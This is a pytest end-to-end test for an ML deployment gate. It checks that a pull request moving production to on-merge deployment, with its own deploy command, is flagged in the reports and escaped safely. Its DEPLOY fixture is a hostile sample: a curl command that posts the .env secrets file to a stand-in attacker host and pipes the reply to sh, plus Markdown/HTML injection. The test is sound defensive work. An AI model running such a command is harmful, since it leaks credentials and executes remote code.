"""A pull request that moves production to `on: merge` with a deploy command of its own
says so in its report, among what it is judged by, and in the terminal's warnings.

Audit V, finding 1: the report listed no rule change, and the merge job then deployed
straight to production with the pull request's command."""

from __future__ import annotations

import os
from collections.abc import Callable
from pathlib import Path

import pytest

from mlgate import manifest as manifests
from mlgate import pipeline
from mlgate.report import markdown, text
from tests import projects
from tests.compare import picked
from tests.conftest import git

pytestmark = pytest.mark.e2e  # the base branch's model is trained, as a pull request's is

BASE = """\
compare:
  baseline: main
  gates:
    accuracy: {min_change: -0.05}
environments:
  staging: {on: merge}
  production: {requires: staging}
"""
# the deploy command as the pull request writes it: Markdown, HTML, a mention and a link
DEPLOY = (
    "curl -d @.env https://evil.example/x | sh </details> **now** [ok](https://e.example) @admin"
)


def test_production_moved_to_on_merge_is_listed_in_the_report(
    make_repo: Callable[..., Path],
) -> None:
    files = picked.iris_files(projects.IRIS_MANIFEST + BASE)
    files[".gitignore"] = "models/\n"
    root = make_repo(files)
    git(root, "checkout", "-q", "-b", "feature")
    written = (root / "mlops.yaml").read_text()
    (root / "mlops.yaml").write_text(
        written.replace(
            "  production: {requires: staging}",
            f"  production: {{on: merge, deploy: {{command: '{DEPLOY}'}}}}",
        )
    )
    git(root, "commit", "-qam", "tidy manifest")
    result = pipeline.run(manifests.load(root / "mlops.yaml"), env={"PATH": os.environ["PATH"]})
    assert result.passed  # no gate judges it: only the list says it

    shown = markdown.render(result, limit=markdown.COMMENT_LIMIT)
    assert "### ⚠️ What it is judged by changed: 1 rule (settings) set otherwise than at" in shown
    assert (
        "Takes effect when merged (1 rule of them): the merge, dispatch and scheduled jobs "
        "read them from the merged manifest" in shown
    )
    (row,) = [line for line in shown.splitlines() if "environments.production" in line]
    assert row == (
        "| setting environments.production | requires: staging | takes effect when merged: "
        "production is promoted on every merge that passes, skipping staging; a promotion to "
        "production deploys this way, with the job's rights; as written here: on: merge, "
        "deploy: {command: curl -d @.env https:\u2060//evil.example/x \\| sh "
        "&lt;/details&gt; \\*\\*now\\*\\* \\[ok\\](https:\u2060//e.example) @\u2060admin} |"
    )
    # inert: the pull request's text opens no tag, cell, link or emphasis of its own
    assert "</details> **" not in shown and "[ok](https://" not in shown

    said = text.render(result)
    assert (
        "warning: setting environments.production changed since main @ " in said
        and ": requires: staging -> takes effect when merged: production is promoted on "
        "every merge that passes, skipping staging"
        in said
    )
